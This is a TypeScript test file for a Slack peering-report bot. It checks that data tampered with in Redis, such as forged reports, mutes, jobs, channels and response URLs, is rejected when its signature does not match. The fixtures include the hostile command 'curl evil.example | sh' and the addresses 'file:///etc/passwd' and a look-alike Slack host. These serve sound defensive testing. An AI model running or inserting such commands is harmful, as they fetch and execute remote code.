import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gunzipSync, gzipSync } from 'node:zlib';
import { Queue } from 'bullmq';
import { pino } from 'pino';
import { z } from 'zod';
import { channels, people } from '../../sandbox/workspace/people';
import { startWorkspace, type Workspace } from '../../sandbox/workspace/workspace';
import { createPendingSince } from '../../src/clusters/pending.store';
import { createDefinitions } from '../../src/features/digests/definitions.store';
import { createDigestRuns } from '../../src/features/digests/runs.store';
import { createReports } from '../../src/features/history/reports.store';
import { createMutes } from '../../src/features/mutes/mutes.store';
import { planMigration } from '../../src/features/storage';
import { createSubscriptions } from '../../src/features/subscriptions/subscriptions.store';
import { defineJob } from '../../src/queue/define';
import { createProducer, type Producer } from '../../src/queue/producer';
import { sealSchedulerPayload } from '../../src/queue/seal-payload';
import { type SchedulerDefinition, syncSchedulers } from '../../src/queue/schedulers';
import { startWorker } from '../../src/queue/worker';
import { keys, queuePrefix } from '../../src/redis/keys';
import type { RedisClient } from '../../src/redis/redis';
import { createSealer, type RecordLocation } from '../../src/signing/seal-record';
import { createMessageRefs } from '../../src/slack/api/message-refs.store';
import { createRespond } from '../../src/slack/api/response-url';
import { exit } from '../../src/cli/command';
import { migrateStorage } from '../../src/cli/commands/migrate-storage';
import { runInProcess } from '../cli/support';
import { manifest, startBotProcess } from '../e2e/support';
import { connect } from '../health/support';
import type { OutboxEntry } from '../../src/slack/api/outbox/entry';
import { createOutboxStore } from '../../src/slack/api/outbox/outbox.store';
import { describeWith } from '../lab/binaries';
import { waitFor } from '../lab/process';
import { type RedisServer, startRedis } from '../lab/redis';
import { missingPeer, reportOf } from '../render/reports';
import { sealer, signingKey } from '../sealer';
import { startBotOn } from '../slack/bot';
import { configOf } from '../slack/support';

/** An attacker who reads and writes Redis, and does not know the signing key. Promises of docs/security.md. */

const log = pino({ level: 'silent' });
const keeping = { reports: 10, maxAgeMs: 86_400_000 };
const evil = 'curl evil.example | sh';
const now = Date.now();

const report = (name: string) => ({
  ...reportOf([{ id: 'upstream-destination-peer', findings: [missingPeer] }]),
  cluster: { name, datacenter: 'dc1', consulVersion: '1.20.1' },
  startedAt: new Date(now).toISOString(),
});
const mute = {
  check: 'mesh-*',
  subject: null,
  by: 'U1',
  reason: 'known',
  createdMs: now,
  untilMs: now + 60_000,
};
const digest = {
  channel: 'C0HOME',
  team: 'T1',
  owner: 'U1',
  clusters: ['prod'],
  when: { cron: '0 9 * * *', zone: 'UTC', words: 'daily 9:00' },
  onlyChanges: false,
  activeSince: now,
  request: 'r1',
};
const subscription = {
  cluster: 'prod',
  channel: 'C0HOME',
  team: 'T1',
  owner: 'U1',
  severity: 'error' as const,
  check: null,
  peer: null,
  everyMs: 60_000,
  broadcast: true,
};

describeWith(['redis'], 'Redis is storage, not a witness', () => {
  let server: RedisServer;
  let redis: RedisClient;
  const ends: (() => unknown)[] = [];
  beforeAll(async () => {
    server = await startRedis();
    redis = await connect(server.url);
  });
  beforeEach(() => redis.flushall());
  afterEach(async () => {
    for (const end of ends.splice(0).toReversed()) await end();
  });
  afterAll(async () => {
    redis.disconnect();
    await server.stop();
  });

  /** Replaces text in a field, whatever else the field holds. */
  const edit = async (key: string, field: string, from: string, to: string): Promise<void> => {
    const before = (await redis.hget(key, field)) ?? '';
    expect(before).toContain(from);
    await redis.hset(key, field, before.replace(from, to));
  };
  /** Replaces text in compressed JSON, whatever stands before it. */
  const editCompressed = async (key: string, from: string, to: string): Promise<void> => {
    const bytes = (await redis.getBuffer(key)) ?? Buffer.alloc(0);
    const at = bytes.indexOf(Buffer.from([0x1f, 0x8b]));
    const text = gunzipSync(bytes.subarray(at)).toString();
    expect(text).toContain(from);
    await redis.set(key, Buffer.concat([bytes.subarray(0, at), gzipSync(text.replace(from, to))]));
  };

  describe('reports', () => {
    const reports = () => createReports(redis, sealer, keeping);

    it('never show a command that an attacker wrote into a stored report', async () => {
      await reports().save('r1', report('prod'));
      expect((await reports().find('r1'))?.cluster.name).toBe('prod');
      await editCompressed('peering:report:r1', 'local_bind_port  = 9191', evil);
      expect(await reports().find('r1')).toBeUndefined();
    });

    it('never show a verdict that one HSET made', async () => {
      await reports().save('r1', report('prod'));
      const { verdict } = report('prod');
      const other = verdict === 'ready' ? 'not-ready' : 'ready';
      await edit('peering:latest', 'prod', `"${verdict}"`, `"${other}"`);
      await edit('peering:runs:prod', 'r1', `"${verdict}"`, `"${other}"`);
      expect((await reports().latest(['prod'])).has('prod')).toBe(false);
      const [run] = (await reports().history(['prod'], 5)).get('prod') ?? [];
      // Derived again from the report, which is genuine.
      expect(run?.verdict).toBe(verdict);
      await redis.hset('peering:latest', 'prod', JSON.stringify({ run: 'r1', verdict: other, at: '' }));
      expect((await reports().latest(['prod'])).has('prod')).toBe(false);
    });

    it('are not those of another cluster or run', async () => {
      await reports().save('r1', report('prod'));
      await redis.copy('peering:report:r1', 'peering:report:r2');
      expect(await reports().find('r2')).toBeUndefined();
      await redis.hset('peering:latest', 'lab', (await redis.hget('peering:latest', 'prod')) ?? '');
      expect((await reports().latest(['lab'])).has('lab')).toBe(false);
      await redis.zadd('peering:reports:lab', now, 'r1');
      expect((await reports().history(['lab'], 5)).size).toBe(0);
    });
  });

  describe('mutes', () => {
    const active = async () => (await createMutes(redis, sealer).of('prod', now)).length;
    const field = JSON.stringify([mute.check, mute.subject]);

    it('cannot be added', async () => {
      await redis.hset('peering:mutes:prod', field, JSON.stringify(mute));
      expect(await active()).toBe(0);
      await createMutes(redis, sealer).add('lab', mute);
      await redis.copy('peering:mutes:lab', 'peering:mutes:prod', 'REPLACE');
      expect(await active()).toBe(0);
    });

    it('cannot be extended', async () => {
      await createMutes(redis, sealer).add('prod', mute);
      expect(await active()).toBe(1);
      await edit('peering:mutes:prod', field, `${mute.untilMs}`, `${mute.untilMs + 60_000}`);
      expect(await active()).toBe(0);
      // A person can mute again.
      await createMutes(redis, sealer).add('prod', mute);
      expect(await active()).toBe(1);
    });
  });

  it('sends a digest to no other channel', async () => {
    const digests = createDefinitions(redis, sealer);
    const { id } = await digests.add(digest);
    expect(await digests.find(id)).toBeDefined();
    await edit('peering:digests', id, 'C0HOME', 'C0EVIL');
    expect([await digests.find(id), await digests.all()]).toEqual([undefined, []]);
  });

  it('sends the changes of a subscription to no other channel', async () => {
    const subscriptions = createSubscriptions(redis, sealer);
    await subscriptions.put(subscription, now);
    const own = (await redis.hget('peering:subscriptions', 'C0HOME/prod')) ?? '';
    await redis.hset('peering:subscriptions', 'C0EVIL/prod', own.replace('C0HOME', 'C0EVIL'));
    expect((await subscriptions.all()).map(({ channel }) => channel)).toEqual(['C0HOME']);
    await edit('peering:subscriptions', 'C0HOME/prod', 'C0HOME', 'C0EVIL');
    expect(await subscriptions.all()).toEqual([]);
    // The channel can subscribe again.
    await subscriptions.put(subscription, now);
    expect((await subscriptions.all()).map(({ channel }) => channel)).toEqual(['C0HOME']);
  });

  it('edits no message in a channel that an attacker wrote into a message ref', async () => {
    const refs = createMessageRefs(redis, sealer);
    await refs.posted('a', { channel: 'C0HOME', ts: '1.2' });
    const stored = (await redis.get('peering:place:a')) ?? '';
    await redis.set('peering:place:a', stored.replace('C0HOME', 'C0EVIL'));
    expect(await refs.find('a')).toBeUndefined();
    await redis.set('peering:place:b', stored);
    expect(await refs.find('b')).toBeUndefined();
  });

  it('believes no state of a digest, and no age of a peering, that an attacker wrote', async () => {
    const runs = createDigestRuns(redis, sealer);
    await runs.note('abcd', { dealtWith: 5, run: 'r1' });
    await redis.hset('peering:digest:abcd', 'dealtWith', '9999999999999');
    expect(await runs.state('abcd')).toMatchObject({ run: 'r1', refusals: 0 });
    expect((await runs.state('abcd')).dealtWith).toBeUndefined();
    const pending = createPendingSince(redis, sealer);
    await redis.hset('peering:pending:prod', 'p', '2020-01-01T00:00:00.000Z');
    expect(await pending.read('prod')).toEqual({});
    await pending.note('prod', ['p'], '2026-01-01T00:00:00.000Z');
    expect(await pending.read('prod')).toEqual({ p: '2026-01-01T00:00:00.000Z' });
  });

  it('reports what it refuses by key, and never by content', async () => {
    const refused: RecordLocation[] = [];
    const watching = createSealer({ signingKey }, (location) => refused.push(location));
    await redis.set('peering:report:r9', evil);
    expect(await createReports(redis, watching, keeping).find('r9')).toBeUndefined();
    expect(refused).toEqual([{ kind: 'report', key: 'peering:report:r9' }]);
  });

  describe('jobs', () => {
    const runs: string[] = [];
    const abandoned: string[] = [];
    const probe = (queue: 'checks' | 'digests') =>
      defineJob<{ readonly channel: string }>({
        name: 'probe',
        queue,
        payload: z.object({ channel: z.string() }),
        options: { attempts: 1, backoffMs: 10 },
        handle: async ({ payload }) => {
          runs.push(`${queue} ${payload.channel}`);
          return { kind: 'done', as: 'fine' };
        },
        abandon: async ({ id }) => {
          abandoned.push(id);
        },
      });
    let producer: Producer;
    const ended: string[] = [];
    const work = async (queue: 'checks' | 'digests'): Promise<void> => {
      const connection = await connect(server.url, 'working');
      const worker = startWorker({
        queue,
        jobs: [probe(queue)],
        sealer,
        services: () => ({}),
        connection,
        concurrency: 1,
        log,
        onEnd: ({ outcome }) => ended.push(outcome),
      });
      ends.push(
        () => connection.disconnect(),
        () => worker.close(0),
      );
    };
    const raw = (name: string): Queue => {
      const queue = new Queue(name, { connection: redis, prefix: queuePrefix });
      ends.push(() => queue.close());
      return queue;
    };
    beforeEach(() => {
      for (const list of [runs, abandoned, ended]) list.length = 0;
      producer = createProducer(redis, sealer, log);
      ends.push(() => producer.close());
    });
    const add = (id: string) => producer.enqueue(probe('checks'), { channel: 'C0HOME' }, { id }, 1500);
    const failing = async (): Promise<void> => {
      await waitFor('the end', () => ended.length > 0);
      expect([ended, runs, abandoned]).toEqual([['failed'], [], []]);
      expect(await raw('checks').getJobCountByTypes('failed')).toBe(1);
    };

    it('that an attacker added do nothing', async () => {
      await raw('checks').add('probe', { channel: 'C0EVIL' }, { jobId: 'x' });
      await work('checks');
      await failing();
    });

    it('that an attacker changed do nothing', async () => {
      await add('x');
      await edit('{peering}:checks:x', 'data', 'C0HOME', 'C0EVIL');
      await work('checks');
      await failing();
    });

    it('that an attacker copied do nothing: under another id', async () => {
      await add('x');
      const data = JSON.parse((await redis.hget('{peering}:checks:x', 'data')) ?? '') as object;
      await raw('checks').obliterate({ force: true });
      await raw('checks').add('probe', data, { jobId: 'y' });
      await work('checks');
      await failing();
    });

    it('that an attacker copied do nothing: to another queue', async () => {
      await add('x');
      const data = JSON.parse((await redis.hget('{peering}:checks:x', 'data')) ?? '') as object;
      await raw('digests').add('probe', data, { jobId: 'x' });
      await work('digests');
      await waitFor('the end', () => ended.length > 0);
      expect([ended, runs]).toEqual([['failed'], []]);
    });

    it('that an attacker put back a day later do nothing', async () => {
      const real = Date.now();
      const clock = jest.spyOn(Date, 'now').mockReturnValue(real - 25 * 3_600_000);
      await add('x');
      clock.mockRestore();
      await work('checks');
      await failing();
    });

    it('of a schedule run at their time alone, and as jobs of that schedule alone', async () => {
      const seal = ({ id, name, data }: SchedulerDefinition) =>
        sealSchedulerPayload(sealer, { queue: 'checks', name, id }, data);
      const definition = {
        id: 'digest/a',
        repeat: { every: 3_600_000 },
        name: 'probe',
        data: { channel: 'C0HOME' },
      };
      await syncSchedulers(raw('digests'), seal, 'digest/', async () => [definition]);
      const data = seal(definition);
      const early = Date.now() + 3_600_000;
      for (const jobId of [`repeat:digest/a:${early}`, 'plain']) {
        await raw('checks').add('probe', data, { jobId });
      }
      await work('checks');
      await waitFor('the ends', () => ended.length === 2);
      expect([ended, runs]).toEqual([['failed', 'failed'], []]);
    });

    it('run as they were queued', async () => {
      await add('x');
      await work('checks');
      await waitFor('the end', () => ended.length > 0);
      expect(runs).toEqual(['checks C0HOME']);
    });
  });

  describe('answers', () => {
    let slack: Workspace;
    let sink: Server;
    let address: string;
    let heard: number;
    beforeEach(async () => {
      slack = await startWorkspace({ manifest, messageRate: { perSecond: 1000, burst: 1000 } });
      heard = 0;
      sink = createServer((_, answer) => {
        heard += 1;
        answer.end('ok');
      });
      await new Promise<void>((done) => sink.listen(0, '127.0.0.1', () => done()));
      address = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/hook`;
      ends.push(slack.stop, () => sink.close());
    });

    it('go to Slack alone, whatever address they are given', async () => {
      const respond = createRespond(slack.apiUrl);
      const message = { text: 'x', blocks: [] };
      for (const url of [address, 'https://hooks.slack.com.evil.example/x', 'file:///etc/passwd', '']) {
        expect(await respond(url, message)).toEqual({
          ok: false,
          error: { kind: 'refused', code: 'foreign_address' },
        });
      }
      expect(heard).toBe(0);
    });

    it('to two people cannot be swapped in the outbox, neither whole nor their content', async () => {
      const write = async (user: string): Promise<void> => {
        const message = { text: `only for ${user}`, blocks: [] };
        const entry: OutboxEntry = {
          name: `answer-to-${user}`,
          since: Date.now(),
          channel: channels.random,
          user,
          responseUrl: `https://hooks.slack.com/commands/${user}`,
          seq: 1,
          renderings: [{ message }],
          final: true,
          orphan: null,
          until: Date.now() + 60_000,
          way: 'response-url',
          style: 0,
          part: 0,
          ref: null,
          shown: 0,
          deleted: 0,
          dueAt: 0,
          reserved: false,
          failures: 0,
          unsureUntil: 0,
          ended: null,
        };
        await createOutboxStore(redis, sealer).write({ text: '', entry: undefined }, entry, { waitMs: 0 });
      };
      // Another process, which remembers nothing.
      const shown = async (user: string) => {
        const { entry } = await createOutboxStore(redis, sealer).find(`answer-to-${user}`);
        return entry && [entry.user, entry.renderings[0]?.message.text];
      };
      const swap = async (one = '', other = ''): Promise<void> => {
        const values = [(await redis.getBuffer(one)) ?? '', (await redis.getBuffer(other)) ?? ''];
        await redis.mset(one, values[1] ?? '', other, values[0] ?? '');
      };
      for (const user of ['U1', 'U2']) await write(user);
      const entries = ['U1', 'U2'].map((user) => keys.outboxEntry(`answer-to-${user}`));
      const contents = await redis.keys(keys.outboxContent('*'));
      expect(contents).toHaveLength(2);
      const all = () => Promise.all(['U1', 'U2'].map(shown));
      const own = [
        ['U1', 'only for U1'],
        ['U2', 'only for U2'],
      ];
      expect(await all()).toEqual(own);
      for (const pair of [entries, contents]) {
        await swap(...pair);
        expect(await all()).toEqual([undefined, undefined]);
        await swap(...pair);
        expect(await all()).toEqual(own);
      }
    });

    it('of a bot whose job names another address or channel go nowhere', async () => {
      // A bot that only listens: the job waits in Redis.
      const stopListening = await startBotOn(slack, server.url, configOf(), {
        uses: { roles: ['bot'], queues: [] },
      });
      const typed = await slack.typeCommand(people.requester.id, channels.random, '/peering check prod-east');
      const url = String(typed.payload['response_url']);
      const [key = ''] = (await redis.keys('{peering}:checks:*')).filter((one) => /[0-9a-f-]{36}$/.test(one));
      const data = (await redis.hget(key, 'data')) ?? '';
      // The address is a capability: nobody can read it in Redis.
      expect(data).toContain('responseUrl');
      expect(data).not.toContain(new URL(url).pathname.split('/').at(-1));
      const forged = data
        .replace(channels.random, channels.platform)
        .replace(/(responseUrl\\?":\\?")[^"\\]+/, `$1${address}`);
      expect(forged).not.toBe(data);
      await redis.hset(key, 'data', forged);
      await stopListening();
      const before = slack.messages(channels.platform).length;
      ends.push(
        await startBotOn(slack, server.url, configOf(), { uses: { roles: ['worker'], queues: ['checks'] } }),
      );
      await waitFor('the job to fail', async () => (await redis.zcard('{peering}:checks:failed')) === 1);
      expect([heard, slack.messages(channels.platform).length]).toEqual([0, before]);
    });
  });

  describe('records of version 0.1.0', () => {
    const field = JSON.stringify([mute.check, mute.subject]);
    const env = () => ({ REDIS_URL: server.url, PEERING_SIGNING_KEY: signingKey });
    const plant = async (): Promise<void> => {
      await redis.hset('peering:mutes:prod', field, JSON.stringify(mute));
    };
    const active = async () => (await createMutes(redis, sealer).of('prod', now)).length;

    it('are ignored, and counted in the log at the start', async () => {
      await plant();
      const slack = await startWorkspace({ manifest });
      const bot = await startBotProcess({ slack, redisUrl: server.url, clusters: 'clusters: {}' });
      ends.push(slack.stop, () => bot.end('SIGKILL'));
      await waitFor('the warning', () => bot.output().includes('"unsealed":1,'));
      expect(await active()).toBe(0);
    });

    it('are listed by migrate-storage, and signed only with --yes', async () => {
      await plant();
      const listed = await runInProcess([migrateStorage], ['migrate-storage'], { env: env() });
      expect([listed.code, await active()]).toEqual([exit.findings, 0]);
      expect(listed.out).toContain(`${mute.untilMs}`);
      const signed = await runInProcess([migrateStorage], ['migrate-storage', '--yes'], { env: env() });
      expect([signed.code, await active()]).toEqual([exit.fine, 1]);
    });
  });

  describe('another key', () => {
    const next = 'n'.repeat(40);

    it('reads nothing, unless the old one is named as the previous key, which signs nothing', async () => {
      await createReports(redis, sealer, keeping).save('r1', report('prod'));
      const read = (one: ReturnType<typeof createSealer>) => createReports(redis, one, keeping).find('r1');
      expect(await read(createSealer({ signingKey: next }))).toBeUndefined();
      const rotating = createSealer({ signingKey: next, previousSigningKey: signingKey });
      expect(await read(rotating)).toBeDefined();
      await createReports(redis, rotating, keeping).save('r1', report('prod'));
      expect(await read(sealer)).toBeUndefined();
    });

    it('takes over by migrate-storage, which adopts nothing that is sealed and not genuine', async () => {
      await createReports(redis, sealer, keeping).save('r1', report('prod'));
      const mutes = createMutes(redis, sealer);
      await mutes.add('prod', mute);
      const producer = createProducer(redis, sealer, log);
      const job = defineJob<{ readonly responseUrl: string }>({
        name: 'probe',
        queue: 'checks',
        payload: z.object({ responseUrl: z.string() }),
        options: { attempts: 1, backoffMs: 10 },
        handle: async () => ({ kind: 'done', as: 'fine' }),
        abandon: async () => undefined,
      });
      await producer.enqueue(job, { responseUrl: 'https://hooks.slack.com/x' }, { id: 'x' }, 1500);
      await producer.close();
      await redis.copy('peering:report:r1', 'peering:report:r2');

      const rotating = createSealer({ signingKey: next, previousSigningKey: signingKey });
      const { steps, refused } = await planMigration(redis, rotating);
      expect(refused).toEqual([{ kind: 'report', key: 'peering:report:r2' }]);
      for (const { write } of steps) await write();
      const alone = createSealer({ signingKey: next });
      expect((await planMigration(redis, alone)).steps).toEqual([]);
      expect(await createReports(redis, alone, keeping).find('r1')).toBeDefined();
      expect(await createMutes(redis, alone).of('prod', now)).toHaveLength(1);
    });
  });
});
